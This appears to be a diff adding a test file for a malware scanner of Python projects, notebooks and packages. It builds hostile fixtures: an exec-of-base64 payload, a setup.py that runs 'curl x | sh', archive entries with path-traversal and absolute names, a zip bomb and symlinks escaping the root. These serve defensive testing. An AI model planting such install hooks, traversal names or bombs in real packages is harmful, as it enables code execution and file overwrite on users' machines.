@@ -1,0 +1,116 @@
+/** scanPaths over every input kind, hostile inputs included. */
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { gzipSync } from 'node:zlib';
+import { zipSync } from 'fflate';
+import { pack } from 'tar-stream';
+import { scanPaths } from '../../src/scan/scan-paths.js';
+import { applySuppressions, globToRegExp } from '../../src/scan/suppressions.js';
+
+let dir: string;
+const PAYLOAD = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n';
+
+async function tarGz(entries: Record<string, string>): Promise<Buffer> {
+  const tar = pack();
+  for (const [name, text] of Object.entries(entries)) tar.entry({ name }, text);
+  tar.finalize();
+  const chunks: Buffer[] = [];
+  for await (const chunk of tar) chunks.push(chunk as Buffer);
+  return gzipSync(Buffer.concat(chunks));
+}
+
+before(async () => {
+  dir = mkdtempSync(path.join(os.tmpdir(), 'saferun-scan-'));
+  const w = (rel: string, data: string | Uint8Array): void => {
+    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
+    writeFileSync(path.join(dir, rel), data);
+  };
+  w('proj/evil.py', PAYLOAD);
+  w('proj/clean.py', 'print("hi")\n');
+  w('proj/tool', '#!/usr/bin/env python3\nimport os\nos.system(cmd)\n');
+  w('proj/notes.txt', 'exec(base64.b64decode("x"))');
+  w('proj/.git/hooks/x.py', PAYLOAD);
+  w('proj/node_modules/m/x.py', PAYLOAD);
+  w('proj/.venv/lib/x.py', PAYLOAD);
+  w('proj/myenv/pyvenv.cfg', 'home = /usr\n');
+  w('proj/myenv/lib/x.py', PAYLOAD);
+  w('proj/binary.py', Buffer.from([0x00, 0x01, 0x02, 0x03]));
+  w('proj/big.py', `x = 1\n${'#'.repeat(2 * 1024 * 1024)}\n`);
+  w('outside/secret.py', PAYLOAD);
+  symlinkSync(path.join(dir, 'outside', 'secret.py'), path.join(dir, 'proj', 'link-out.py'));
+  symlinkSync(path.join(dir, 'proj'), path.join(dir, 'proj', 'loop'));
+  w('proj/nb.ipynb', JSON.stringify({ cells: [{ cell_type: 'markdown', source: ['# hi'] }, { cell_type: 'code', source: ['!pip install x\n', 'import os\n', 'os.system(cmd)\n'] }] }));
+  w('pkgs/evil-1.0-py3-none-any.whl', zipSync({ 'evil/__init__.py': new TextEncoder().encode(PAYLOAD), '../../escape.py': new TextEncoder().encode(PAYLOAD) }));
+  w('pkgs/evil-1.0.tar.gz', await tarGz({ 'evil-1.0/setup.py': 'import os\nos.system("curl x | sh")\n', '/etc/abs.py': 'print(1)\n' }));
+  // a zip bomb: one 50 MB entry of zeros compresses to ~50 KB
+  w('pkgs/bomb.zip', zipSync({ 'bomb.py': new Uint8Array(50 * 1024 * 1024) }, { level: 9 }));
+  w('pkgs/garbage.tar.gz', Buffer.from('not really gzip'));
+});
+
+after(() => rmSync(dir, { recursive: true, force: true }));
+
+test('a directory: python files and shebang scripts, no VCS dirs, virtualenvs or node_modules', async () => {
+  const result = await scanPaths(['proj'], { cwd: dir });
+  const files = new Set(result.findings.map((f) => f.file));
+  assert.ok(files.has(path.join('proj', 'evil.py')));
+  assert.ok(files.has(path.join('proj', 'tool')), 'extensionless python script with a shebang');
+  for (const hidden of ['.git', 'node_modules', '.venv', 'myenv']) assert.ok(![...files].some((f) => f.includes(hidden)), hidden);
+  assert.equal(result.riskLevel, 'critical');
+  assert.equal(result.version, 1);
+});
+
+test('symlinks never lead out of the root and loops are harmless', async () => {
+  const result = await scanPaths(['proj'], { cwd: dir });
+  assert.ok(!result.findings.some((f) => f.file.includes('secret') || f.file.includes('link-out')));
+  assert.ok(result.skipped.some((s) => s.file.includes('link-out') && /outside the scanned directory/.test(s.reason)));
+});
+
+test('binary and oversized files are skipped with a reason', async () => {
+  const result = await scanPaths(['proj'], { cwd: dir, limits: { maxFileBytes: 1024 * 1024 } });
+  assert.ok(result.skipped.some((s) => s.file.endsWith('binary.py') && s.reason === 'binary content'));
+  assert.ok(result.skipped.some((s) => s.file.endsWith('big.py') && /larger than/.test(s.reason)));
+});
+
+test('notebooks: code cells are scanned, lines mapped back to cells, magics ignored', async () => {
+  const result = await scanPaths(['proj/nb.ipynb'], { cwd: dir });
+  const finding = result.findings.find((f) => f.ruleId === 'os-command');
+  assert.ok(finding);
+  assert.match(finding.message, /cell 2, line 3/);
+});
+
+test('wheels and sdists are read in memory; hostile entry names are only display names', async () => {
+  const result = await scanPaths(['pkgs/evil-1.0-py3-none-any.whl', 'pkgs/evil-1.0.tar.gz'], { cwd: dir });
+  const files = result.findings.map((f) => f.file);
+  assert.ok(files.some((f) => f.endsWith('.whl!/evil/__init__.py')));
+  assert.ok(files.some((f) => f.endsWith('.whl!/../../escape.py')), 'scanned, shown inside the archive');
+  assert.ok(files.some((f) => f.endsWith('.tar.gz!/evil-1.0/setup.py')));
+  assert.ok(result.findings.some((f) => f.ruleId === 'setup-install-hook'));
+  assert.ok(!existsSync(path.join(dir, '..', 'escape.py')) && !existsSync('/etc/abs.py'), 'nothing was written');
+});
+
+test('a zip bomb stops at the cap, garbage archives are skipped, nothing crashes', async () => {
+  const result = await scanPaths(['pkgs/bomb.zip', 'pkgs/garbage.tar.gz'], { cwd: dir, limits: { maxFileBytes: 1024 * 1024 } });
+  assert.ok(result.skipped.some((s) => s.file.includes('bomb') && /larger than|bomb/.test(s.reason)));
+  assert.ok(result.skipped.some((s) => s.file.includes('garbage') && /not a readable/.test(s.reason)));
+});
+
+test('missing paths are skipped, not fatal', async () => {
+  const result = await scanPaths(['nope', 'proj/clean.py'], { cwd: dir });
+  assert.ok(result.skipped.some((s) => s.file === 'nope' && /no such file/.test(s.reason)));
+  assert.equal(result.summary.files, 1);
+});
+
+test('suppressions come from the user configuration: path glob + rule + reason', async () => {
+  const result = await scanPaths(['proj/evil.py', 'proj/tool'], {
+    cwd: dir,
+    suppressions: [{ path: 'proj/*.py', rule: 'encoded-payload-exec', reason: 'reviewed' }],
+  });
+  assert.ok(!result.findings.some((f) => f.ruleId === 'encoded-payload-exec'));
+  assert.equal(result.suppressed, 1);
+  assert.ok(globToRegExp('src/**/*.py').test('src/a/b/c.py'));
+  assert.ok(!globToRegExp('src/*.py').test('src/a/c.py'));
+  assert.equal(applySuppressions([], []).suppressed, 0);
+});
